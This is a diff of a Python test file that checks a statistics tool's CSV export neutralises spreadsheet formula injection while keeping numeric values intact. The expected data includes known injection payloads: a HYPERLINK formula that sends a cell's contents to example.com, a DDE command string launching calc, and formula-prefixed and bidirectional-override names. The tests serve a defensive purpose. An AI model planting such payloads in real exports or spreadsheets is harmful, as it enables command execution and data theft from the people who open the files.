@@ -1,6 +1,9 @@
 """Text from input stays text in every workbook ipstat writes (issue 19, items 5 and 12): never
-a formula, never a link, controls and bidirectional overrides shown as on the terminal."""
+a formula, never a link, controls and bidirectional overrides shown as on the terminal; and the
+history's CSV neutralises what a spreadsheet would run as a formula (item 6)."""
 
+import csv
+import io
 import json
 import re
 import zipfile
@@ -17,6 +20,7 @@ from typer.testing import CliRunner
 from ipstat.base.findings import FileReport, Finding, Vocabulary
 from ipstat.base.visible import visible
 from ipstat.bloc.document import dumps, loads, to_document
+from ipstat.bloc.series import build_history
 from ipstat.bloc.totals import Aggregate, Source, derive, sum_members
 from ipstat.cli import app
 from ipstat.commands.history import write_history
@@ -27,6 +31,7 @@ from ipstat.outputs.cells import shown
 from ipstat.outputs.consolidated import write_consolidated
 from ipstat.outputs.emulation_forms import build_adjustment_form, build_registration_form
 from ipstat.outputs.forms import build_form
+from ipstat.outputs.tidy import to_csv
 from tests.conftest import VALID
 from tests.legacy_books import to_ods
 
@@ -135,6 +140,57 @@ def test_history_workbook(hostile_history: list[Path], contract: Contract, tmp_p
     texts = shown_texts(run.files[0])
     assert {shown(name) for name in HOSTILE} <= texts
     assert {"=1+1-2016.json", "bieu<U+202E>-2017.json"} <= texts  # `Nguồn`
+
+
+def csv_rows(paths: list[Path], contract: Contract) -> list[dict[str, str]]:
+    history = build_history(paths, contract, mapped=False)
+    return list(csv.DictReader(io.StringIO(to_csv(history).removeprefix("\ufeff"))))
+
+
+def test_history_csv_neutralises_formula_text_and_keeps_numbers(
+    hostile_history: list[Path], contract: Contract, tmp_path: Path
+) -> None:
+    rows = csv_rows(hostile_history, contract)
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    for row in rows:
+        for column in ("member", "indicator", "unit", "mapped_from", "source", "sha256"):
+            assert not row[column].startswith(starts), row[column]
+    members = {row["member"] for row in rows}
+    assert members == {
+        "'=1+1",
+        '\'=HYPERLINK("http://example.com/?d="&A1,"x")',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(A1)",
+        "'-2+3",
+        "http://example.com",  # no formula: left as it is
+        "mailto:x@y",
+        "external:\\\\h\\s\\x.xlsx",
+        "bieu\u202eslx.xlsx",
+        "_x0041_",
+    }
+    sources = {row["source"] for row in rows}
+    assert sources == {"'=1+1-2016.json", "bieu\u202e-2017.json"}  # raw but inert: no formula
+    negative = next(
+        row for row in rows if row["member"] == "'=1+1" and row["code"] == "fdi_added_capital"
+    )
+    assert negative["value"] == "-12.5"  # a number, never quoted away
+    assert [Decimal(row["value"]) for row in rows]  # every value a number, as it was
+    [saved] = write_history(hostile_history, contract, out=tmp_path, formats=["json"]).files
+    data = json.loads(saved.read_text(encoding="utf-8"))
+    assert {row["member"] for row in data["rows"]} == set(HOSTILE)  # the JSON keeps them raw
+
+
+def test_history_csv_neutralises_tab_and_carriage_return(
+    hostile_history: list[Path], contract: Contract, tmp_path: Path
+) -> None:
+    names = {"=1+1": "\tTab", "@SUM(A1)": "\rCR"}
+    paths = []
+    for path in hostile_history:
+        target = tmp_path / "tabs" / path.name
+        target.parent.mkdir(exist_ok=True)
+        target.write_text(renamed(path.read_text(encoding="utf-8"), names), encoding="utf-8")
+        paths.append(target)
+    assert {"'\tTab", "'\rCR"} <= {row["member"] for row in csv_rows(paths, contract)}
 
 
 def hostile_bloc(folder: Path, names: list[str]) -> Path:
